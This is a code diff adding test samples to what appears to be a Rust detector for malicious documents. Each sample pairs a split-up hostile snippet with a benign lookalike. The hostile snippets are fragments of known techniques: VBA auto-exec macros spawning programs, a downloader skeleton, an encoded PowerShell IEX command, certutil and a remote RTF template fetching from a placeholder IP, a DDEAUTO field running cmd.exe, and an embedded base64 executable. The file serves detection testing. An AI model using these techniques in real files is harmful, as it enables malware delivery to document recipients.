@@ -203,4 +203,59 @@ pub const SAMPLES: &[Sample] = &[
         &[b"var p = unes", b"cape('%u4343%u4343%u0feb%u335b'); Collab.get", b"Icon(n + '_N.bundle');"],
         &[b"var n = Collab.documentToStream(doc); util.printf('%5.2f', 3.14159);"],
     ),
+    // Other ways to write the same.
+    sample(
+        "VBA_Auto_Exec_Spawns_Program",
+        &[b"Private Sub Workbook_", b"Open()\nShell \"cmd /c calc\", vbHide\nEnd Sub\n"],
+        &[b"Private Sub Workbook_Open()\n' see Shell Global Solutions\nEnd Sub\n"],
+    ),
+    sample(
+        "VBA_Auto_Exec_Spawns_Program",
+        &[b"sub autoopen()\nset o = getobject(\"winmg", b"mts:\\\\.\\root\\cimv2:Win32_Process\")\nend sub"],
+        &[b"Sub Report()\nSet o = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nEnd Sub"],
+    ),
+    sample(
+        "VBA_Auto_Exec_Downloads",
+        &[
+            b"Sub AutoExec()\nSet x = CreateObject(\"Microsoft.XML",
+            b"HTTP\")\nSet s = CreateObject(\"ADODB.Str",
+            b"eam\")\nEnd Sub",
+        ],
+        &[b"Sub AutoExec()\nSet s = CreateObject(\"ADODB.Connection\")\nEnd Sub"],
+    ),
+    sample(
+        "PowerShell_Encoded_Command",
+        &[b"pwsh -EncodedComm", b"and SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
+        &[b"pwsh -Encoding utf8 -Path C:\\data\\historian\\export-of-november-2026"],
+    ),
+    sample(
+        "Windows_Tool_Runs_Remote_Code",
+        &[b"certutil.exe -url", b"cache -split -f http://192.0.2.1/a.txt a.exe"],
+        &[b"certutil -dump a.cer; mshta is switched off; msiexec /i setup.msi"],
+    ),
+    sample(
+        "Windows_Tool_Runs_Remote_Code",
+        &[b"m\0s\0h\0t\0a\0 \0h\0t\0t\0p\0", b":\0/\0/\0x\0"],
+        &[b"m\0s\0h\0t\0a\0.\0e\0x\0e\0"],
+    ),
+    sample(
+        "Equation_Editor_Object",
+        &[b"root\x02\xce\x02\0\0\0\0\0", b"\xc0\0\0\0\0\0\0\x46"],
+        &[b"root\x06\x09\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"],
+    ),
+    sample(
+        "DDE_Runs_Command",
+        &[b"<w:instrText>DDEA", b"UTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>"],
+        &[b"<w:instrText>DDEAUTO excel \"C:\\\\data.xlsx\" \"Sheet1!R1C1\"</w:instrText>"],
+    ),
+    sample(
+        "Remote_Template",
+        &[b"{\\rtf1{\\*\\templ", b"ate http://192.0.2.1/a.dotm}}"],
+        &[b"{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dotm}}"],
+    ),
+    sample(
+        "PE_Inside_Other_Bytes",
+        &[b"data:application/octet-stream;base64,TVqQAAMAAA", b"AEAAAA//8AALgAAAA="],
+        &[b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE="],
+    ),
 ];
